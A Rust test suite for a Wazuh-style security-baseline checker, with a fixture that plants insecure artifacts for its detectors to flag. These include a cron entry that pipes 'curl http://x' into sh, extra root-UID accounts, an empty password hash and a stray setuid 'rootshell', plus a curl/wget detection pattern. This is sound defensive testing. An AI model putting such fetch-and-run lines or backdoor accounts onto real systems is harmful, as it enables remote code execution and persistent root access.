//! Every rule of docs/baseline-rules.md, one check each, against a root directory the test
//! builds: the expected result is written beside each check.

use std::path::Path;

use shieldwall_baseline::{CheckStatus, Evaluator, Limits, Policy, PolicyReport, Target};

fn write(root: &Path, path: &str, text: &str) -> std::io::Result<()> {
    let full = root.join(path.trim_start_matches('/'));
    if let Some(parent) = full.parent() {
        std::fs::create_dir_all(parent)?;
    }
    std::fs::write(full, text)
}

fn sample_root() -> std::io::Result<tempfile::TempDir> {
    let dir = tempfile::tempdir()?;
    let root = dir.path();
    write(
        root,
        "/etc/ssh/sshd_config",
        "# comment\nPort 22\nPermitRootLogin no\nMaxAuthTries 4\r\n",
    )?;
    write(
        root,
        "/etc/login.defs",
        "PASS_MAX_DAYS\t365\nPASS_MIN_DAYS 0\n",
    )?;
    write(root, "/etc/empty.conf", "")?;
    write(
        root,
        "/etc/sysctl.d/10-net.conf",
        "net.ipv4.ip_forward = 0\n",
    )?;
    write(
        root,
        "/etc/sysctl.d/deep/20-x.conf",
        "kernel.dmesg_restrict = 1\n",
    )?;
    write(
        root,
        "/usr/lib/os-release",
        "NAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\n",
    )?;
    std::os::unix::fs::symlink("../usr/lib/os-release", root.join("etc/os-release"))?;
    std::os::unix::fs::symlink("/etc/login.defs", root.join("etc/sysctl.d/zz-link.conf"))?;
    write(
        root,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/bash\nevil:x:00:0::/:/bin/sh\n",
    )?;
    write(
        root,
        "/etc/shadow",
        "root:$6$x$y:19000:0:99999:7:::\nalice::19000:0:99999:7:::\n",
    )?;
    write(
        root,
        "/home/alice/.ssh/authorized_keys",
        "ssh-ed25519 AAAA alice\n",
    )?;
    write(
        root,
        "/etc/cron.d/backup",
        "# nightly\n0 1 * * * root curl http://x | sh\n",
    )?;
    write(root, "/etc/value", "1\n")?;
    std::fs::create_dir_all(root.join("var/empty-dir"))?;
    // A setuid program a package installed, and one nothing installed.
    write(
        root,
        "/var/lib/dpkg/info/passwd.list",
        "/.\n/usr\n/usr/bin\n/usr/bin/passwd\n",
    )?;
    write(root, "/usr/bin/passwd", "")?;
    write(root, "/usr/local/bin/rootshell", "")?;
    // A FIFO read would wait for a writer forever; devices and sockets are no better.
    std::fs::create_dir_all(root.join("etc/fifodir"))?;
    for fifo in ["etc/fifo", "etc/fifodir/pipe"] {
        let made = std::process::Command::new("mkfifo")
            .arg(root.join(fifo))
            .status()?;
        assert!(made.success(), "mkfifo {fifo}");
    }
    for path in ["usr/bin/passwd", "usr/local/bin/rootshell"] {
        std::fs::set_permissions(
            root.join(path),
            std::os::unix::fs::PermissionsExt::from_mode(0o4755),
        )?;
    }
    Ok(dir)
}

/// (id, expected, rule lines, condition)
const CASES: &[(&str, CheckStatus, &str, &[&str])] = &[
    // f: existence, through a link inside the root.
    (
        "file-exists",
        CheckStatus::Pass,
        "all",
        &["f:/etc/os-release"],
    ),
    (
        "file-missing",
        CheckStatus::Fail,
        "all",
        &["f:/etc/nothing"],
    ),
    ("file-is-dir", CheckStatus::Fail, "all", &["f:/etc/ssh"]),
    (
        "not-file-missing",
        CheckStatus::Pass,
        "all",
        &["not f:/etc/nothing"],
    ),
    // Content: one line must satisfy every part.
    (
        "same-line",
        CheckStatus::Pass,
        "all",
        &[r"f:/etc/ssh/sshd_config -> !r:^# && r:PermitRootLogin\s+no"],
    ),
    (
        "parts-on-different-lines",
        CheckStatus::Fail,
        "all",
        &[r"f:/etc/ssh/sshd_config -> r:^Port && r:no$"],
    ),
    // Regexes are caseless, as Wazuh's PCRE2 runs them.
    (
        "caseless",
        CheckStatus::Pass,
        "all",
        &[r"f:/etc/ssh/sshd_config -> r:^permitrootlogin\s+NO"],
    ),
    // A CR before the newline is not part of the line.
    (
        "crlf",
        CheckStatus::Pass,
        "all",
        &[r"f:/etc/ssh/sshd_config -> r:^MaxAuthTries 4$"],
    ),
    // Content of a missing file: not applicable, `not` or not.
    (
        "content-missing-file",
        CheckStatus::NotApplicable,
        "all",
        &["f:/etc/nothing -> r:x"],
    ),
    (
        "not-content-missing-file",
        CheckStatus::NotApplicable,
        "all",
        &["not f:/etc/nothing -> r:x"],
    ),
    // `!r:X` alone: no line matches X.
    (
        "lone-negation-holds",
        CheckStatus::Pass,
        "all",
        &["f:/etc/ssh/sshd_config -> !r:^PermitEmptyPasswords"],
    ),
    (
        "lone-negation-fails",
        CheckStatus::Fail,
        "all",
        &["f:/etc/ssh/sshd_config -> !r:^Port"],
    ),
    (
        "lone-negation-empty-file",
        CheckStatus::Pass,
        "all",
        &["f:/etc/empty.conf -> !r:anything"],
    ),
    // A plain value equals the whole line.
    ("literal", CheckStatus::Pass, "all", &["f:/etc/value -> 1"]),
    (
        "literal-not-substring",
        CheckStatus::Fail,
        "all",
        &["f:/etc/ssh/sshd_config -> Port"],
    ),
    // Numbers: the first group compared.
    (
        "numeric-holds",
        CheckStatus::Pass,
        "all",
        &[r"f:/etc/login.defs -> n:^PASS_MAX_DAYS\s+(\d+) compare <= 365"],
    ),
    (
        "numeric-fails",
        CheckStatus::Fail,
        "all",
        &[r"f:/etc/login.defs -> n:^PASS_MIN_DAYS\s+(\d+) compare >= 1"],
    ),
    (
        "numeric-no-line",
        CheckStatus::Fail,
        "all",
        &[r"f:/etc/login.defs -> n:^PASS_WARN_AGE\s+(\d+) compare >= 7"],
    ),
    // Comma lists: any file.
    (
        "list-any",
        CheckStatus::Pass,
        "all",
        &["f:/etc/nothing,/etc/value -> 1"],
    ),
    (
        "list-all-missing",
        CheckStatus::NotApplicable,
        "all",
        &["f:/etc/nothing,/etc/nada -> 1"],
    ),
    // Directories.
    ("dir-exists", CheckStatus::Pass, "all", &["d:/etc/sysctl.d"]),
    ("dir-missing", CheckStatus::Fail, "all", &["d:/etc/nothing"]),
    (
        "dir-name-literal",
        CheckStatus::Pass,
        "all",
        &["d:/etc/sysctl.d -> 10-net.conf"],
    ),
    (
        "dir-name-literal-exact",
        CheckStatus::Fail,
        "all",
        &["d:/etc/sysctl.d -> net"],
    ),
    (
        "dir-name-regex-content",
        CheckStatus::Pass,
        "all",
        &[r"d:/etc/sysctl.d -> r:\.conf$ -> r:^net.ipv4.ip_forward\s*=\s*0"],
    ),
    (
        "dir-recurses",
        CheckStatus::Pass,
        "all",
        &[r"d:/etc/sysctl.d -> r:\.conf$ -> r:dmesg_restrict\s*=\s*1"],
    ),
    // Links inside a walked directory are skipped (login.defs is reachable only through one).
    (
        "dir-skips-links",
        CheckStatus::Fail,
        "all",
        &[r"d:/etc/sysctl.d -> r:\.conf$ -> r:PASS_MAX_DAYS"],
    ),
    (
        "dir-missing-with-pattern",
        CheckStatus::NotApplicable,
        "all",
        &[r"d:/etc/nothing -> r:\.conf$ -> r:x"],
    ),
    (
        "dir-empty-no-match",
        CheckStatus::Fail,
        "all",
        &[r"d:/var/empty-dir -> r:\.conf$"],
    ),
    // Running-system state is not part of a root directory.
    (
        "proc-not-applicable",
        CheckStatus::NotApplicable,
        "all",
        &["f:/proc/sys/kernel/ostype -> r:Linux"],
    ),
    (
        "process-not-applicable",
        CheckStatus::NotApplicable,
        "all",
        &["p:sshd"],
    ),
    (
        "command-not-applicable",
        CheckStatus::NotApplicable,
        "all",
        &["c:sshd -T -> r:port"],
    ),
    (
        "registry-not-applicable",
        CheckStatus::NotApplicable,
        "any",
        &[r"r:HKEY_LOCAL_MACHINE\Software"],
    ),
    // Conditions, with the table of Wazuh's documentation.
    (
        "all-fail-beats-na",
        CheckStatus::Fail,
        "all",
        &["f:/etc/nothing -> r:x", "f:/etc/nothing"],
    ),
    (
        "any-pass-beats-na",
        CheckStatus::Pass,
        "any",
        &["f:/etc/nothing -> r:x", "f:/etc/value"],
    ),
    (
        "any-na",
        CheckStatus::NotApplicable,
        "any",
        &["f:/etc/nothing -> r:x", "f:/etc/nada"],
    ),
    (
        "any-fail",
        CheckStatus::Fail,
        "any",
        &["f:/etc/nada", "f:/etc/nothing"],
    ),
    (
        "none-pass",
        CheckStatus::Pass,
        "none",
        &["f:/etc/nada", "f:/etc/nothing"],
    ),
    (
        "none-fail",
        CheckStatus::Fail,
        "none",
        &["f:/etc/nada", "f:/etc/value"],
    ),
    (
        "none-na",
        CheckStatus::NotApplicable,
        "none",
        &["f:/etc/nada", "f:/etc/nothing -> r:x"],
    ),
    // A regex the linear-time engine cannot run makes its check an error, not the policy.
    (
        "lookahead-error",
        CheckStatus::Error,
        "all",
        &["f:/etc/value -> r:^(?!0)"],
    ),
    // Braces that do not repeat are plain, as PCRE2 reads them.
    (
        "plain-braces",
        CheckStatus::Fail,
        "all",
        &["f:/etc/value -> r:${grub_cfg}"],
    ),
    // Probes.
    // A lone `!r:` would mean "no account is root"; any account but root is this.
    (
        "probe-uid0",
        CheckStatus::Fail,
        "none",
        &[r"x:uid0_accounts -> r:\w && !r:^root$"],
    ),
    (
        "probe-empty-hash",
        CheckStatus::Fail,
        "none",
        &["x:empty_password_hashes"],
    ),
    (
        "probe-keys",
        CheckStatus::Pass,
        "all",
        &["x:authorized_keys -> r:^alice /home/alice/.ssh/authorized_keys$"],
    ),
    (
        "probe-cron",
        CheckStatus::Fail,
        "none",
        &[r"x:cron_entries -> r:curl|wget"],
    ),
    (
        "probe-sockets-na",
        CheckStatus::NotApplicable,
        "none",
        &["x:listening_sockets -> r::23$"],
    ),
    (
        "probe-setuid",
        CheckStatus::Fail,
        "none",
        &["x:setuid_files -> r:^/usr/local/bin/rootshell$"],
    ),
    (
        "probe-setuid-packaged",
        CheckStatus::Pass,
        "none",
        &["x:setuid_files -> r:passwd"],
    ),
    // root's hash is not a valid crypt string and alice's is empty: nothing to try.
    (
        "probe-weak-passwords",
        CheckStatus::Pass,
        "none",
        &["x:weak_password_hashes"],
    ),
    (
        "fifo-is-an-error",
        CheckStatus::Error,
        "all",
        &["f:/etc/fifo -> r:x"],
    ),
    (
        "walks-skip-fifos",
        CheckStatus::Fail,
        "all",
        &["d:/etc/fifodir -> r:. -> r:x"],
    ),
    // UIDs are numbers: `00` is root's.
    (
        "uid-read-as-a-number",
        CheckStatus::Pass,
        "all",
        &["x:uid0_accounts -> r:^evil$"],
    ),
    // `!value` alone: no line equals the value.
    (
        "negated-literal-fails",
        CheckStatus::Fail,
        "all",
        &["f:/etc/value -> !1"],
    ),
    (
        "negated-literal-holds",
        CheckStatus::Pass,
        "all",
        &["f:/etc/value -> !2"],
    ),
    // `!f:` is not a rule type (Wazuh 5 silently reads it as `f:`).
    (
        "bang-type-is-an-error",
        CheckStatus::Error,
        "all",
        &["!f:/etc/value"],
    ),
    // A capture that is not an integer does not satisfy a comparison.
    (
        "numeric-capture-not-integer",
        CheckStatus::Fail,
        "all",
        &[r"f:/etc/ssh/sshd_config -> n:^(PermitRootLogin)\s compare >= 0"],
    ),
];

fn policy_from<'a>(checks: impl Iterator<Item = (&'a str, &'a str, &'a [&'a str])>) -> String {
    let mut text = String::from(
        "policy:\n  id: semantics\n  file: semantics.yml\n  name: Semantics\n  description: test\nchecks:\n",
    );
    for (id, condition, rules) in checks {
        text.push_str(&format!(
            "  - id: {id}\n    name: {id}\n    condition: {condition}\n    rules:\n"
        ));
        for rule in rules {
            text.push_str(&format!("      - '{}'\n", rule.replace('\'', "''")));
        }
    }
    text
}

fn policy_text() -> String {
    policy_from(
        CASES
            .iter()
            .map(|(id, _, condition, rules)| (*id, *condition, *rules)),
    )
}

fn run(target: &Target) -> Result<PolicyReport, Box<dyn std::error::Error>> {
    let policy = Policy::parse(Path::new("semantics.yml"), &policy_text())?;
    Ok(Evaluator::new(target, Limits::default()).policy(&policy, &mut |_, _| {}))
}

#[test]
fn every_rule_of_the_semantics_gives_its_result() -> Result<(), Box<dyn std::error::Error>> {
    let dir = sample_root()?;
    let report = run(&Target::root(dir.path().to_owned(), false))?;
    let mut wrong = Vec::new();
    for ((id, expected, _, _), got) in CASES.iter().zip(&report.checks) {
        assert_eq!(*id, got.id);
        if got.result != *expected {
            wrong.push(format!(
                "{id}: expected {expected:?}, got {:?} ({:?}; {:?})",
                got.result, got.reason, got.rules
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    Ok(())
}

#[test]
fn evidence_names_file_and_line() -> Result<(), Box<dyn std::error::Error>> {
    let dir = sample_root()?;
    let report = run(&Target::root(dir.path().to_owned(), false))?;
    let check = report
        .checks
        .iter()
        .find(|c| c.id == "lone-negation-fails")
        .ok_or("missing")?;
    assert_eq!(
        check.evidence().collect::<Vec<_>>(),
        ["/etc/ssh/sshd_config:2: Port 22"]
    );
    let cron = report
        .checks
        .iter()
        .find(|c| c.id == "probe-cron")
        .ok_or("missing")?;
    assert_eq!(
        cron.evidence().collect::<Vec<_>>(),
        ["x:cron_entries:1: /etc/cron.d/backup: 0 1 * * * root curl http://x | sh"]
    );
    Ok(())
}

#[test]
fn the_score_counts_pass_over_pass_and_fail() -> Result<(), Box<dyn std::error::Error>> {
    let dir = sample_root()?;
    let report = run(&Target::root(dir.path().to_owned(), false))?;
    let s = report.summary;
    assert_eq!(s.total(), CASES.len());
    let pass = CASES.iter().filter(|c| c.1 == CheckStatus::Pass).count();
    let fail = CASES.iter().filter(|c| c.1 == CheckStatus::Fail).count();
    assert_eq!((s.pass, s.fail), (pass, fail));
    let expected = pass as f64 * 100.0 / (pass + fail) as f64;
    assert!(s.score.is_some_and(|got| (got - expected).abs() < 1e-9));
    Ok(())
}

#[test]
fn commands_run_on_the_local_host_without_a_shell() -> Result<(), Box<dyn std::error::Error>> {
    let text = policy_from(
        [
            ("1", "all", &["c:echo hello world -> r:^hello"][..]),
            ("2", "all", &[r"c:echo a | cat -> r:\| cat"][..]),
            ("3", "all", &["c:echo enabled -> enabled"][..]),
            ("4", "all", &["c:no-such-program-here -> r:x"][..]),
            ("5", "all", &[r#"c:sh -c "echo oops >&2" -> r:^oops"#][..]),
        ]
        .into_iter(),
    );
    let policy = Policy::parse(Path::new("cmd.yml"), &text)?;
    let report =
        Evaluator::new(&Target::local(), Limits::default()).policy(&policy, &mut |_, _| {});
    let results: Vec<CheckStatus> = report.checks.iter().map(|c| c.result).collect();
    assert_eq!(
        results,
        [
            CheckStatus::Pass,
            CheckStatus::Pass,
            CheckStatus::Pass,
            CheckStatus::NotApplicable,
            CheckStatus::Pass
        ]
    );
    Ok(())
}

#[test]
fn a_command_past_its_deadline_is_killed_and_an_error() -> Result<(), Box<dyn std::error::Error>> {
    let text = policy_from([("1", "all", &["c:sleep 30 -> r:x"][..])].into_iter());
    let policy = Policy::parse(Path::new("slow.yml"), &text)?;
    let limits = Limits {
        command_timeout: std::time::Duration::from_millis(300),
        ..Limits::default()
    };
    let started = std::time::Instant::now();
    let report = Evaluator::new(&Target::local(), limits).policy(&policy, &mut |_, _| {});
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
    let check = report.checks.first().ok_or("no check")?;
    assert_eq!(check.result, CheckStatus::Error);
    assert!(
        check
            .reason
            .as_deref()
            .is_some_and(|r| r.contains("killed")),
        "{:?}",
        check.reason
    );
    Ok(())
}

#[test]
fn variables_expand_longest_name_first_and_only_whole_names()
-> Result<(), Box<dyn std::error::Error>> {
    let dir = sample_root()?;
    let text = "policy: {id: v, name: V, description: d}\nvariables:\n  $etc: /etc\n  $etc_value: /etc/value\nchecks:\n\
                - {id: 1, name: longest, condition: all, rules: ['f:$etc_value -> 1']}\n\
                - {id: 2, name: prefix, condition: all, rules: ['f:$etc/value -> 1']}\n\
                - {id: 3, name: unknown, condition: all, rules: ['f:$etcetera -> 1']}\n";
    let policy = Policy::parse(Path::new("v.yml"), &text.replace("\\n", "\n"))?;
    let report = Evaluator::new(
        &Target::root(dir.path().to_owned(), false),
        Limits::default(),
    )
    .policy(&policy, &mut |_, _| {});
    let results: Vec<CheckStatus> = report.checks.iter().map(|c| c.result).collect();
    // `$etcetera` is not `$etc` followed by `etera`: it stays unbound, so not applicable.
    assert_eq!(
        results,
        [
            CheckStatus::Pass,
            CheckStatus::Pass,
            CheckStatus::NotApplicable
        ]
    );
    Ok(())
}

#[test]
fn failed_requirements_make_every_check_not_applicable() -> Result<(), Box<dyn std::error::Error>> {
    let dir = sample_root()?;
    let text = "policy: {id: r, name: R, description: d}\nrequirements: {name: needs nginx, description: d, condition: all, rules: ['d:/etc/nginx']}\nchecks:\n  - {id: 1, name: a, condition: all, rules: ['f:/etc/value']}\n";
    let policy = Policy::parse(Path::new("r.yml"), text)?;
    let report = Evaluator::new(
        &Target::root(dir.path().to_owned(), false),
        Limits::default(),
    )
    .policy(&policy, &mut |_, _| {});
    let check = report.checks.first().ok_or("no check")?;
    assert_eq!(check.result, CheckStatus::NotApplicable);
    assert_eq!(
        check.reason.as_deref(),
        Some("policy requirements not met: needs nginx")
    );
    Ok(())
}

#[test]
fn a_lone_negation_over_a_list_shows_the_file_that_decided()
-> Result<(), Box<dyn std::error::Error>> {
    let dir = sample_root()?;
    let policy = Policy::parse(
        Path::new("n.yml"),
        &policy_from(
            [(
                "1",
                "all",
                &[r"f:/etc/ssh/sshd_config,/etc/value -> !r:^Port"][..],
            )]
            .into_iter(),
        ),
    )?;
    let report = Evaluator::new(
        &Target::root(dir.path().to_owned(), false),
        Limits::default(),
    )
    .policy(&policy, &mut |_, _| {});
    let check = report.checks.first().ok_or("no check")?;
    assert_eq!(check.result, CheckStatus::Pass);
    assert_eq!(
        check.evidence().collect::<Vec<_>>(),
        ["/etc/value: no line matches"]
    );
    Ok(())
}

#[test]
fn each_command_runs_once_per_run_and_background_children_do_not_hold_it()
-> Result<(), Box<dyn std::error::Error>> {
    let dir = tempfile::tempdir()?;
    let log = dir.path().join("ran");
    let counting = format!(
        r#"c:sh -c "echo x >> {}; echo ran" -> r:^ran"#,
        log.display()
    );
    let policy = Policy::parse(
        Path::new("once.yml"),
        &policy_from(
            [
                ("1", "all", &[counting.as_str()][..]),
                ("2", "all", &[counting.as_str()][..]),
                (
                    "3",
                    "all",
                    &[r#"c:sh -c "sleep 30 & echo hi" -> r:^hi"#][..],
                ),
            ]
            .into_iter(),
        ),
    )?;
    let started = std::time::Instant::now();
    let report =
        Evaluator::new(&Target::local(), Limits::default()).policy(&policy, &mut |_, _| {});
    assert!(
        started.elapsed() < std::time::Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
    let results: Vec<CheckStatus> = report.checks.iter().map(|c| c.result).collect();
    assert_eq!(
        results,
        [CheckStatus::Pass, CheckStatus::Pass, CheckStatus::Pass]
    );
    assert_eq!(std::fs::read_to_string(&log)?, "x\n");
    Ok(())
}
